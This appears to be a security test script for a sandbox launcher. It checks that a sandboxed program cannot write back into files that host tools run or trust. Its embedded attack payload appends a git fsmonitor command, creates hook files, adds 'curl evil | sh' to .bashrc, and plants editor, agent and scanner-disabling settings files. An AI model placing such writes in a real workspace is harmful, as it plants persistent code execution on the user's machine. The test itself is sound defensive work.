#!/bin/sh
# SPDX-License-Identifier: LGPL-2.1-or-later
# Attack suite: files that host tools execute or trust never come back from a
# run (security-model.md, "After the run"). Through --apply and through
# --keep + `acs-launch apply`: VCS metadata at any depth (a nested .git, a
# bare repository recognised by its shape, also one the program makes), shell
# start-up files, editor and agent settings (any letter case), and
# acs-launch's own profiles on the search path (by identity, also where the
# directory does not exist yet). Protected changes stay in the report.
. "$ACS_SRCDIR/tests/security/sec-lib.sh"

# $TMP stays 0755: a kept layer below a directory others can write is refused
# make_ws DIR: a host workspace with a nested repository and a bare one
make_ws() {
        mkdir -p "$1/sub/.git/hooks" "$1/bare/objects" "$1/bare/refs/heads" "$1/pp" "$1/xdg"
        printf '[core]\n\tbare = false\n' >"$1/sub/.git/config"
        echo 'ref: refs/heads/main' >"$1/sub/.git/HEAD"
        echo 'ref: refs/heads/main' >"$1/bare/HEAD"
        printf '[core]\n\tbare = true\n' >"$1/bare/config"
        echo 'echo host' >"$1/.bashrc"
        chmod -R a+rwX "$1"
        # run by root, the sandbox takes the workspace owner's uid
        if is_root; then chown -R 65534:65534 "$1"; fi
}

# What the program does: every write below targets something a host tool
# runs or trusts, except ok.txt (the control).
ATTACK="
os.makedirs('/workspace/sub/.git/hooks', exist_ok=True)
open('/workspace/sub/.git/config', 'a').write('[core]\n\tfsmonitor = touch /tmp/pwned-$MARK\n')
open('/workspace/sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\n')
open('/workspace/bare/config', 'a').write('[core]\n\tfsmonitor = x\n')
os.makedirs('/workspace/bare/hooks', exist_ok=True)
open('/workspace/bare/hooks/post-update', 'w').write('#!/bin/sh\n')
for d in ('newbare/objects', 'newbare/refs/heads'):
    os.makedirs('/workspace/' + d, exist_ok=True)
open('/workspace/newbare/HEAD', 'w').write('ref: refs/heads/main\n')
open('/workspace/newbare/config', 'w').write('[core]\n\tfsmonitor = x\n')
open('/workspace/.bashrc', 'a').write('curl evil | sh\n')
os.makedirs('/workspace/deep/er', exist_ok=True)
open('/workspace/deep/er/.Zshenv', 'w').write('x\n')
open('/workspace/deep/.bash_logout', 'w').write('x\n')
os.makedirs('/workspace/.vscode', exist_ok=True)
open('/workspace/.vscode/tasks.json', 'w').write('{}\n')
os.makedirs('/workspace/deep/.VSCode', exist_ok=True)
open('/workspace/deep/.VSCode/settings.json', 'w').write('{}\n')
open('/workspace/.mcp.json', 'w').write('{}\n')
open('/workspace/deep/.MCP.json', 'w').write('{}\n')
os.makedirs('/workspace/.claude', exist_ok=True)
open('/workspace/.claude/settings.json', 'w').write('{}\n')
os.makedirs('/workspace/.GIT', exist_ok=True)
open('/workspace/.GIT/config', 'w').write('x\n')
open('/workspace/pp/default.ini', 'w').write('[scan]\nmode = off\n')
os.makedirs('/workspace/xdg/acs/profiles', exist_ok=True)
open('/workspace/xdg/acs/profiles/default.ini', 'w').write('[scan]\nmode = off\n')
open('/workspace/ok.txt', 'w').write('fine\n')
print('END')
"

# check_host WS HOW: nothing protected reached WS, the control did
check_host() {
        _w=$1 _h=$2
        is "$(cat "$_w/ok.txt" 2>/dev/null)" fine "$_h: control: an ordinary new file is applied"
        if grep -q fsmonitor "$_w/sub/.git/config"; then fail "$_h: a nested .git/config (sub/.git/config) is not written back"; else
                ok "$_h: a nested .git/config (sub/.git/config) is not written back"
        fi
        check "$_h: no hook in a nested .git" test ! -e "$_w/sub/.git/hooks/pre-commit"
        if grep -q fsmonitor "$_w/bare/config"; then fail "$_h: a bare repository's config (found by its shape) is not written back"; else
                ok "$_h: a bare repository's config (found by its shape) is not written back"
        fi
        check "$_h: no hook in a bare repository" test ! -e "$_w/bare/hooks/post-update"
        check "$_h: a bare repository made by the program does not reach the host" test ! -e "$_w/newbare/config" -a ! -e "$_w/newbare/HEAD"
        is "$(cat "$_w/.bashrc")" "echo host" "$_h: .bashrc is not written back"
        check "$_h: .zshenv at depth, any case, is not written back" test ! -e "$_w/deep/er/.Zshenv"
        check "$_h: .bash_logout at depth is not written back" test ! -e "$_w/deep/.bash_logout"
        check "$_h: .vscode/ is not written back" test ! -e "$_w/.vscode/tasks.json"
        check "$_h: .VSCode/ at depth is not written back" test ! -e "$_w/deep/.VSCode/settings.json"
        check "$_h: .mcp.json is not written back" test ! -e "$_w/.mcp.json"
        check "$_h: .MCP.json at depth is not written back" test ! -e "$_w/deep/.MCP.json"
        check "$_h: .claude/ is not written back" test ! -e "$_w/.claude/settings.json"
        check "$_h: .GIT/ (another case) is not written back" test ! -e "$_w/.GIT/config"
        check "$_h: a profile in an \$ACS_PROFILE_PATH directory is not written back" test ! -e "$_w/pp/default.ini"
        check "$_h: a profile under \$XDG_CONFIG_HOME/acs/profiles (not there yet) is not written back" \
                test ! -e "$_w/xdg/acs/profiles/default.ini"
}

# --- --apply ------------------------------------------------------------------
WS=$TMP/ws
make_ws "$WS"
env ACS_PROFILE_PATH="$WS/pp:$ACS_PROFILE_PATH" XDG_CONFIG_HOME="$WS/xdg" \
        "$ACS" --profile unsafe-python -w "$WS" --apply --json -c "$PRELUDE$ATTACK" >"$TMP/apply.json" 2>"$TMP/apply.err" </dev/null
RC=$?
OUT=$(json_get .stdout.text <"$TMP/apply.json")
reached "protected files through --apply"
check_host "$WS" "--apply"
is "$(json_get .files.modified <"$TMP/apply.json" | python3 -c 'import json,sys; print(sorted(e["path"] for e in json.load(sys.stdin) if e.get("protected")))')" \
        "['.bashrc', 'bare/config', 'sub/.git/config']" "--apply: protected modifications are flagged in the report"
contains "$(json_get .files.patch <"$TMP/apply.json")" "fsmonitor = touch" "--apply: a protected change stays in the patch for a human"
applied=$(json_get .apply.items <"$TMP/apply.json" | python3 -c 'import json,sys; print(" ".join(sorted(e["path"] for e in json.load(sys.stdin) if e["status"] == "done")))')
is "$applied" "deep deep/er ok.txt xdg/acs" "--apply: only the ordinary entries were written"

# --- --keep + acs-launch apply --------------------------------------------------
WS2=$TMP/ws2
make_ws "$WS2"
K=$TMP/kept
env ACS_PROFILE_PATH="$WS2/pp:$ACS_PROFILE_PATH" XDG_CONFIG_HOME="$WS2/xdg" \
        "$ACS" --profile unsafe-python -w "$WS2" --keep "$K" -q -c "$PRELUDE$ATTACK" >"$TMP/keep.out" 2>"$TMP/keep.err" </dev/null
RC=$?
OUT=$(cat "$TMP/keep.out")
reached "protected files through --keep"
check "--keep: the layer was kept (control)" test -f "$K/acs-keep.json"
# the manifest's own "protected" flags are not trusted: strip them
python3 - "$K/acs-keep.json" <<'PY'
import json, sys
m = json.load(open(sys.argv[1]))
for l in ("added", "modified", "deleted"):
    for e in m["files"][l]:
        e.pop("protected", None)
json.dump(m, open(sys.argv[1], "w"))
PY
env ACS_PROFILE_PATH="$WS2/pp:$ACS_PROFILE_PATH" XDG_CONFIG_HOME="$WS2/xdg" \
        "$ACS" apply "$K" --workspace "$WS2" >"$TMP/kapply.out" 2>"$TMP/kapply.err" </dev/null
diag "acs-launch apply: exit $?; $(tail -n 3 "$TMP/kapply.err")"
check_host "$WS2" "keep + apply"

tap_plan
